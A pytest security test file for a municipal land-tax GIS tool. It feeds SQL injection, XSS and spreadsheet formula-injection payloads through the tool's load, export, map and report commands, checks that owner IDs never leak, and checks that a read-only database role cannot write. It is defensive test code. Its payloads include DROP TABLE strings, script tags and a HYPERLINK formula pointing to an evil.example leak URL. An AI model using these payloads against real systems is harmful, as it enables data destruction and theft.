"""Hostile input end to end: SQL injection, script in every HTML page, owner IDs in no file.

A sample town is rewritten so that its parcel codes, layer name, column names,
owner names, account numbers, zone names and survey notes carry SQL injection
and HTML/JavaScript payloads, then it goes through every command a municipality
runs: load, survey import, analyze, export (CSV, XLSX, GPKG, keying sheet), maps
(with and without owner names), survey forms and the report (HTML, XLSX, PDF).
The tests check that every payload round-trips as data, that no table is
dropped, that no page runs or renders injected markup (headless Chromium and an
HTML parser), that no generated file or log carries an owner ID number, and that
the read-only role of docs/security.md can make maps and exports but not write.
"""

from __future__ import annotations

import contextlib
import csv
import html
import html.parser
import io
import json
import re
import subprocess
import traceback
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import geopandas as gpd
import openpyxl
import pandas as pd
import psycopg
import pyogrio
import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine, make_url

from gisrev.cli import main
from gisrev.load.normalise import normalise_parcel_code

pytest_plugins = ["browser"]

SQLI = (
    "x'); DROP TABLE parcels;--",
    '"; DROP TABLE register; --',
    "1' OR '1'='1",
    "$$; DROP TABLE zones; $$",
)
XSS = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    "<iframe srcdoc='<script>alert(4)</script>'>",
)
HOSTILE_CODES = SQLI + XSS
LAYER = "parcels'); DROP TABLE parcels;--"
CODE_COLUMN = 'PCODE"); DROP TABLE parcels;--'
EXTRA_COLUMN = "x'); DROP TABLE buildings;--"
OWNER_COLUMN = 'owner"); DROP TABLE register;--'
REGISTER_EXTRA = "y'); DROP TABLE findings;--"
SURVEY_EXTRA = "z'); DROP TABLE survey_visits;--"
HOSTILE_LGU = "x'); DROP TABLE load_runs;--"
ZONE_NAME = "โซน " + XSS[0]
ACCOUNT = XSS[1]
NOTES = "หมายเหตุ " + XSS[2]
# Spreadsheet formula injection: text a spreadsheet would run if written as a formula.
FORMULAS = ('=HYPERLINK("http://evil.example/?leak","คลิก")', "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0")
YEAR_BE = 2566


def run_cli(*args: str) -> tuple[int, str, str]:
    """Run ``gisrev ARGS`` in-process; an uncaught exception counts as a traceback."""
    out, err = io.StringIO(), io.StringIO()
    code: Any = 0
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main([str(a) for a in args])
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
        except BaseException:  # what a user would see as a crash
            traceback.print_exc()
            code = 1
    return int(code), out.getvalue(), err.getvalue()


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a TOML basic string


def build_hostile_town(town: Path, out: Path) -> dict[str, str]:
    """Rewrite the sample town's files with payloads; return original code -> hostile code."""
    truth = pd.read_csv(town / "ground_truth.csv", dtype=str)
    flagged = truth[(truth["tax_year_be"] == str(YEAR_BE)) & truth["flags"].notna()
                    & truth["mapped_area_sqwah"].notna() & (truth["n_register_rows"] == "1")]
    parcels = pyogrio.read_dataframe(town / "parcels.shp", encoding="cp874")
    on_map = set(parcels["PCODE"].map(normalise_parcel_code))
    chosen = [c for c in dict.fromkeys(flagged["parcel_code"])
              if normalise_parcel_code(c) in on_map]
    renamed = {normalise_parcel_code(c): h for c, h in zip(chosen, HOSTILE_CODES, strict=False)}
    assert len(renamed) == len(HOSTILE_CODES)

    def rename(code: Any) -> Any:
        return renamed.get(normalise_parcel_code(str(code)), code) if code else code

    parcels["PCODE"] = parcels["PCODE"].map(rename)
    parcels[EXTRA_COLUMN] = XSS[3]
    parcels = parcels.rename(columns={"PCODE": CODE_COLUMN})
    pyogrio.write_dataframe(parcels, out / "parcels.gpkg", layer=LAYER)

    zones = gpd.read_file(town / "zones.geojson")
    zones["zone_name"] = ZONE_NAME
    zones.to_file(out / "zones.geojson", driver="GeoJSON")

    wb = openpyxl.load_workbook(town / "register_2566.xlsx")
    ws = wb.active
    assert ws is not None
    header = [c.value for c in ws[1]]
    code_col, owner_col = header.index("รหัสแปลง") + 1, header.index("ชื่อเจ้าของ") + 1
    account_col = header.index("เลขที่บัญชี") + 1
    ws.cell(1, owner_col, OWNER_COLUMN)
    ws.cell(1, len(header) + 1, REGISTER_EXTRA)
    for row in range(2, ws.max_row + 1):
        code = ws.cell(row, code_col).value
        ws.cell(row, len(header) + 1, XSS[0])
        if row % 7 == 0:  # text that looks like a formula, stored as text (as exports do)
            ws.cell(row, owner_col, FORMULAS[row % len(FORMULAS)]).data_type = "s"
        if normalise_parcel_code(str(code)) in renamed:
            ws.cell(row, code_col, rename(code))
            owner = FORMULAS[0] if rename(code) == SQLI[2] else "นาย " + XSS[row % len(XSS)]
            ws.cell(row, owner_col, owner).data_type = "s"
            ws.cell(row, account_col, ACCOUNT)
    wb.save(out / "register_2566.xlsx")

    survey = pd.read_csv(town / "survey_2566.csv", dtype=str, keep_default_na=False)
    survey["parcel_code"] = survey["parcel_code"].map(rename)
    survey["notes"] = [FORMULAS[i % 3] if i % 4 == 0 else NOTES for i in range(len(survey))]
    survey[SURVEY_EXTRA] = XSS[0]
    survey.to_csv(out / "survey_2566.csv", index=False, encoding="utf-8")

    mapping = (town / "mapping.toml").read_text(encoding="utf-8")
    mapping = mapping.replace('parcel_code = "PCODE"', f"parcel_code = {_toml(CODE_COLUMN)}", 1)
    mapping = mapping.replace('owner_name = "ชื่อเจ้าของ"', f"owner_name = {_toml(OWNER_COLUMN)}")
    (out / "mapping.toml").write_text(mapping, encoding="utf-8")
    return {c: renamed[normalise_parcel_code(c)] for c in chosen[: len(renamed)]}


class Run:
    """The hostile town after every command, with what each printed."""

    def __init__(self, folder: Path, engine: Engine, database_url: str, codes: dict[str, str],
                 tables_before: set[str]) -> None:
        self.folder, self.engine, self.database_url = folder, engine, database_url
        self.codes, self.tables_before = codes, tables_before
        self.out = folder / "out"
        self.logs: dict[str, tuple[int, str, str]] = {}

    def cli(self, name: str, *args: str, db: str | None = None) -> tuple[int, str, str]:
        """Run one command, keep its stdout/stderr as a log file among the outputs."""
        result = run_cli("--db", db or self.database_url, *args)
        self.logs[name] = result
        log = self.out / "logs" / f"{name}.txt"
        log.parent.mkdir(parents=True, exist_ok=True)
        log.write_text(f"{result[1]}\n{result[2]}", encoding="utf-8")
        return result


def _tables(engine: Engine) -> set[str]:
    with engine.connect() as conn:
        return set(conn.execute(sa.text(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public'")).scalars())


@pytest.fixture(scope="module")
def hostile(engine: Engine, database_url: str,
            tmp_path_factory: pytest.TempPathFactory) -> Run:
    from gisrev.sample import generate_town

    folder = tmp_path_factory.mktemp("hostile")
    town = generate_town(folder / "town", parcels=200, seed=11).path
    codes = build_hostile_town(town, folder)
    with engine.begin() as conn:
        conn.execute(sa.text(
            "TRUNCATE findings, matches, analysis_runs, rejects, register, parcels, buildings, "
            "zones, load_runs, survey_visits RESTART IDENTITY CASCADE"))
    run = Run(folder, engine, database_url, codes, _tables(engine))
    config, mapping, out = str(town / "gisrev.toml"), str(folder / "mapping.toml"), run.out
    g = ("--config", config)
    steps = [
        ("load-parcels", *g, "load", "parcels", "--layer", LAYER, "--mapping", mapping,
         folder / "parcels.gpkg"),
        ("load-buildings", *g, "load", "buildings", "--mapping", mapping, town / "buildings.gpkg"),
        ("load-zones", *g, "load", "zones", "--mapping", mapping, folder / "zones.geojson"),
        ("load-register", *g, "load", "register", "--mapping", mapping,
         folder / "register_2566.xlsx"),
        ("survey-import", *g, "survey", "import", folder / "survey_2566.csv"),
        ("analyze", *g, "analyze", "--year", YEAR_BE),
        ("export-csv", *g, "export", "findings", "--year", YEAR_BE, "--out", out / "findings.csv"),
        ("export-xlsx", *g, "export", "findings", "--year", YEAR_BE, "--out", out / "f.xlsx"),
        ("export-gpkg", *g, "export", "findings", "--year", YEAR_BE, "--out", out / "f.gpkg"),
        ("export-keying", *g, "export", "keying", "--year", YEAR_BE, "--out", out / "keying.xlsx"),
        ("map", *g, "map", "--year", YEAR_BE, "--out", out / "maps"),
        ("map-owner", *g, "map", "--year", YEAR_BE, "--show-owner", "--out", out / "maps_owner"),
        ("survey-form", *g, "survey", "form", "--year", YEAR_BE, "--out", out / "forms",
         "--maps", out / "maps"),
        ("report-html", *g, "report", "--year", YEAR_BE, "--out", out / "report.html"),
        ("report-xlsx", *g, "report", "--year", YEAR_BE, "--out", out / "report.xlsx"),
        ("report-pdf", *g, "report", "--year", YEAR_BE, "--out", out / "report.pdf"),
    ]
    out.mkdir()
    for name, *args in steps:
        code, stdout, stderr = run.cli(name, *map(str, args))
        assert code == 0 and "Traceback" not in stderr, (name, stdout, stderr)
    return run


# ------------------------------------------------------------ SQL injection

def test_injection_through_codes_layer_and_column_names_round_trips_as_data(hostile: Run) -> None:
    assert _tables(hostile.engine) == hostile.tables_before  # nothing dropped
    with hostile.engine.connect() as conn:
        parcels = set(conn.execute(sa.text("SELECT parcel_code FROM parcels")).scalars())
        register = set(conn.execute(sa.text("SELECT parcel_code FROM register")).scalars())
        findings = set(conn.execute(sa.text("SELECT parcel_code FROM findings")).scalars())
        layer = conn.execute(sa.text(
            "SELECT layer FROM load_runs WHERE kind = 'parcels'")).scalar_one()
        extra = conn.execute(sa.text(
            "SELECT DISTINCT attrs->>:k FROM parcels"), {"k": EXTRA_COLUMN}).scalars().all()
        reg_extra = conn.execute(sa.text(
            "SELECT DISTINCT attrs->>:k FROM register"), {"k": REGISTER_EXTRA}).scalars().all()
        owners = set(conn.execute(sa.text(
            "SELECT owner_name FROM register WHERE parcel_code = ANY(:c)"),
            {"c": list(HOSTILE_CODES)}).scalars())
        n_parcels, n_rejects = conn.execute(sa.text(
            "SELECT (SELECT count(*) FROM parcels), (SELECT count(*) FROM rejects)")).one()
        notes = set(conn.execute(sa.text("SELECT DISTINCT notes FROM survey_visits")).scalars())
    assert set(HOSTILE_CODES) <= parcels and set(HOSTILE_CODES) <= register
    assert set(HOSTILE_CODES) <= findings  # every hostile parcel was flagged and matched
    assert layer == LAYER and extra == [XSS[3]] and reg_extra == [XSS[0]]
    assert {f"นาย {x}" for x in XSS} | {FORMULAS[0]} >= owners and len(owners) >= 2
    assert n_parcels == 200 and n_rejects == 0
    assert notes == {NOTES, *FORMULAS}  # survey text stored verbatim
    with (hostile.out / "findings.csv").open(encoding="utf-8-sig", newline="") as fh:
        exported = {row["parcel_code"] for row in csv.DictReader(fh)}
    assert set(HOSTILE_CODES) <= exported


@pytest.mark.parametrize("args, line", [
    (("load", "parcels", "--layer", "p'; DROP TABLE parcels;--", "{gpkg}"),
     "gisrev: error: {gpkg}: no layer \"p'; DROP TABLE parcels;--\"; the layers are " + LAYER),
    (("analyze", "--year", "2566; DROP TABLE findings"),
     "gisrev: error: tax year 2566; DROP TABLE findings: "
     "expected a year such as 2566 (BE) or 2023 (CE)"),
    (("export", "findings", "--year", "2566", "--out", "{folder}/x'); DROP TABLE findings;--.csv"),
     None),
    (("--lgu", HOSTILE_LGU, "load", "zones", "{folder}/zones.geojson"), None),
    (("--lgu", HOSTILE_LGU, "analyze", "--year", "2566"), None),
], ids=["layer", "year", "out-path", "lgu-load", "lgu-analyze"])
def test_injection_through_command_options_is_refused_or_inert(
    hostile: Run, args: tuple[str, ...], line: str | None
) -> None:
    gpkg = hostile.folder / "parcels.gpkg"
    config = ("--config", str(hostile.folder / "town" / "gisrev.toml"))
    argv = [*config, *(a.format(gpkg=gpkg, folder=hostile.folder) for a in args)]
    with hostile.engine.connect() as conn:
        before = conn.execute(sa.text(
            "SELECT (SELECT count(*) FROM parcels WHERE lgu_code = '501004'),"
            " (SELECT count(*) FROM findings WHERE lgu_code = '501004')")).one()

    code, _, err = hostile.cli("probe", *argv)

    assert "Traceback" not in err
    if line is not None:
        assert code == 2 and err.strip().splitlines()[-1] == line.format(gpkg=gpkg)
    else:
        assert code == 0, err
    assert _tables(hostile.engine) == hostile.tables_before
    with hostile.engine.connect() as conn:
        after = conn.execute(sa.text(
            "SELECT (SELECT count(*) FROM parcels WHERE lgu_code = '501004'),"
            " (SELECT count(*) FROM findings WHERE lgu_code = '501004')")).one()
        lgus = set(conn.execute(sa.text("SELECT DISTINCT lgu_code FROM zones")).scalars())
    assert after == before
    if "--lgu" in argv:
        assert HOSTILE_LGU in lgus  # stored verbatim as a municipality code


# ------------------------------------------------------------ hostile text in HTML

class _Scan(html.parser.HTMLParser):
    """Collect what an injected payload would have created when parsed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.injected: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag in {"img", "iframe"} and (values.get("src") == "x" or "srcdoc" in values):
            self.injected.append(f"<{tag} {values}>")
        if tag == "svg" and "onload" in values:
            self.injected.append(f"<svg onload={values['onload']}>")
        for name, value in attrs:
            if name.startswith("on") and value and "alert(" in value:
                self.injected.append(f"{tag} {name}={value}")
        self._script = tag == "script"

    def handle_data(self, data: str) -> None:
        if self._script and re.match(r"\s*alert\(", data):
            self.injected.append(f"<script>{data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def _html_pages(run: Run) -> list[Path]:
    return sorted(p for p in run.out.rglob("*.html"))


def test_every_html_page_holds_the_payloads_only_as_escaped_text(hostile: Run) -> None:
    pages = _html_pages(hostile)
    assert len(pages) >= 6
    payloads = [*XSS, ZONE_NAME, NOTES]
    seen = 0
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for payload in payloads:
            assert payload not in text, (page, payload)  # raw markup never written
        scan = _Scan()
        scan.feed(text)
        assert scan.injected == [], (page, scan.injected)
        seen += any(h in text for h in ("alert(1)", "alert(2)", "alert(3)", "alert(4)"))
    assert seen >= 3  # the payloads are there, as data, in several pages


@pytest.mark.browser
def test_no_page_runs_injected_script_in_chromium(hostile: Run, browser_page) -> None:
    view = browser_page
    for page in _html_pages(hostile):
        view.open(page)
        for selector in ('img[src="x"]', "iframe[srcdoc]", "svg[onload]"):
            assert view.page.locator(selector).count() == 0, (page, selector)
    assert view.dialogs == []
    assert view.errors() == []
    view.open(hostile.out / "report.html")
    body = view.page.inner_text("body")
    assert any(code in body for code in XSS)  # a hostile parcel code shown verbatim, as text


@pytest.mark.browser
def test_hostile_codes_and_owner_names_show_verbatim_in_map_popups(hostile: Run,
                                                                   browser_page) -> None:
    view = browser_page
    view.open(hostile.out / "maps_owner" / "overview.html", wait_for="window.L !== undefined")
    shown = 0
    for code in HOSTILE_CODES:
        view.page.fill("#gr-search", code)
        view.page.press("#gr-search", "Enter")
        popup = view.page.locator(".gr-popup")
        if popup.count():
            text = popup.first.inner_text()
            assert code in text
            shown += 1
    assert shown >= len(HOSTILE_CODES) - 1
    assert view.page.locator('img[src="x"]').count() == 0
    assert view.dialogs == [] and view.errors() == []


def test_spreadsheet_text_is_never_written_as_a_formula(hostile: Run) -> None:
    books = sorted(hostile.out.rglob("*.xlsx"))
    assert len(books) >= 4
    shown = 0
    for book in books:
        with zipfile.ZipFile(book) as zf:
            for name in zf.namelist():
                if not name.startswith("xl/"):
                    continue
                xml = zf.read(name).decode("utf-8")
                formulas = re.findall(r"<f[ >][^<]*</f>", xml)
                assert not [f for f in formulas if "HYPERLINK" in f or "cmd|" in f], (book, name)
                shown += sum(html.unescape(xml).count(f) for f in FORMULAS)
    assert shown >= 1  # the text is there, as text
    in_csv = 0
    for table in sorted(hostile.out.rglob("*.csv")):
        with table.open(encoding="utf-8-sig", newline="") as fh:
            for cell in (c for row in csv.reader(fh) for c in row):
                assert not re.match(r"[=@]|[+-][^\d.]", cell), (table, cell)  # never a formula
                in_csv += any(f in cell for f in FORMULAS)
    assert in_csv >= 1  # kept as text behind an apostrophe
    with hostile.engine.connect() as conn:
        stored = conn.execute(sa.text(
            "SELECT count(*) FROM register WHERE owner_name = ANY(:f)"),
            {"f": list(FORMULAS)}).scalar_one()
    assert stored >= 3  # loaded verbatim, as text


# ------------------------------------------------------------ owner ID numbers

def _texts(path: Path) -> Iterator[tuple[str, str]]:
    """Every piece of text a generated file holds (archive members, PDF text, SQLite pages)."""
    data = path.read_bytes()
    if data[:2] == b"PK":
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                yield f"{path.name}:{name}", zf.read(name).decode("utf-8", "replace")
    elif data[:5] == b"%PDF-":
        text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
                              check=True, text=True).stdout
        yield path.name, text
    else:
        yield path.name, data.decode("utf-8", "replace") + data.decode("latin-1")


def _id_patterns(owner_id: str) -> list[str]:
    i = owner_id
    return [i, f"{i[0]}-{i[1:5]}-{i[5:10]}-{i[10:12]}-{i[12]}", f"{i[0]} {i[1:5]} {i[5:10]} "
            f"{i[10:12]} {i[12]}", f"{i[0]}.{i[1:].rstrip('0')}E", i[:9]]


def test_no_generated_file_or_log_holds_an_owner_id(hostile: Run) -> None:
    with hostile.engine.connect() as conn:
        ids = conn.execute(sa.text(
            "SELECT DISTINCT owner_id FROM register WHERE owner_id IS NOT NULL")).scalars().all()
    assert len(ids) > 50
    patterns = re.compile("|".join(re.escape(p) for i in ids for p in _id_patterns(i)))

    files = [p for p in hostile.out.rglob("*") if p.is_file()]
    kinds = {p.suffix for p in files}
    assert {".csv", ".xlsx", ".gpkg", ".html", ".pdf", ".txt"} <= kinds, kinds
    leaks = [(name, m.group()) for p in files for name, text in _texts(p)
             for m in [patterns.search(text)] if m]
    assert leaks == []
    # The scanner can see an ID where there is one: the register it was loaded from.
    planted = [m for name, text in _texts(hostile.folder / "register_2566.xlsx")
               for m in [patterns.search(text)] if m]
    assert planted


# ------------------------------------------------------------ read-only role

@pytest.fixture
def readonly_url(hostile: Run) -> Iterator[str]:
    name = f'gisrev_ro_{uuid.uuid4().hex[:8]}"; DROP TABLE parcels;--'  # quoted, not run
    password = "ro-" + uuid.uuid4().hex
    code, out, err = run_cli("--db", hostile.database_url, "db", "readonly-role", name,
                             "--password", password)
    assert code == 0 and "Traceback" not in err, err
    assert out.startswith(f"role {name} can read this database")
    assert _tables(hostile.engine) == hostile.tables_before
    server = make_url(hostile.database_url)
    try:
        yield (f"postgresql://{quote(name, safe='')}:{quote(password, safe='')}"
               f"@{server.host}:{server.port or 5432}/{server.database}")
    finally:
        with psycopg.connect(hostile.database_url, autocommit=True) as conn:
            conn.execute(psycopg.sql.SQL("DROP OWNED BY {0}; DROP ROLE {0}").format(
                psycopg.sql.Identifier(name)))


def test_readonly_role_makes_maps_and_exports_but_cannot_write(hostile: Run,
                                                               readonly_url: str) -> None:
    config = str(hostile.folder / "town" / "gisrev.toml")
    out = hostile.folder / "readonly"
    g = ("--config", config)
    for name, *args in [
        ("ro-map", *g, "map", "--year", "2566", "--out", out / "maps"),
        ("ro-export", *g, "export", "findings", "--year", "2566", "--out", out / "f.csv"),
        ("ro-export-gpkg", *g, "export", "findings", "--year", "2566", "--out", out / "f.gpkg"),
        ("ro-report", *g, "report", "--year", "2566", "--out", out / "report.html"),
        ("ro-keying", *g, "export", "keying", "--year", "2566", "--out", out / "keying.xlsx"),
        ("ro-forms", *g, "survey", "form", "--year", "2566", "--out", out / "forms"),
    ]:
        code, stdout, stderr = hostile.cli(name, *map(str, args), db=readonly_url)
        assert code == 0 and "Traceback" not in stderr, (name, stdout, stderr)
    with (out / "f.csv").open(encoding="utf-8-sig") as fh, \
            (hostile.out / "findings.csv").open(encoding="utf-8-sig") as ref:
        assert fh.read() == ref.read()
    assert (out / "maps" / "overview.html").stat().st_size > 10_000

    with hostile.engine.connect() as conn:
        before = conn.execute(sa.text("SELECT count(*) FROM findings")).scalar_one()
    for args in [("analyze", "--year", "2566"),
                 ("load", "zones", str(hostile.folder / "zones.geojson")),
                 ("survey", "import", str(hostile.folder / "survey_2566.csv")),
                 ("db", "init")]:
        code, stdout, stderr = hostile.cli("ro-write", *g, *args, db=readonly_url)
        assert code == 2 and "Traceback" not in stderr, stderr
        (line,) = stderr.strip().splitlines()
        assert line.startswith("gisrev: error: the database refused: ")
        assert "may only read" in line
    with hostile.engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM findings")).scalar_one() == before
    with psycopg.connect(readonly_url) as conn:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("SELECT owner_id FROM register")
        conn.rollback()
        assert conn.execute("SELECT count(owner_name) FROM register").fetchone()[0] > 50
        with pytest.raises(psycopg.errors.ReadOnlySqlTransaction):
            conn.execute("CREATE TABLE scratch (x int)")


def test_the_sql_in_docs_security_is_what_the_command_prints(gisrev_cli) -> None:
    doc = (Path(__file__).parents[1] / "docs" / "security.md").read_text(encoding="utf-8")
    (block,) = re.findall(r"```sql\n(.*?)```", doc, flags=re.S)

    def statements(text: str) -> list[str]:
        lines = [ln for ln in text.splitlines() if not ln.startswith(("--", "\\"))]
        return [" ".join(s.split()) for s in " ".join(lines).split(";") if s.strip()]

    result = gisrev_cli("db", "readonly-role", "gisrev_maps", "--print")
    assert result.code == 0, result.err
    printed = re.sub(r'DATABASE "[^"]+"', 'DATABASE "gisrev"', result.out)
    assert statements(printed) == statements(block)
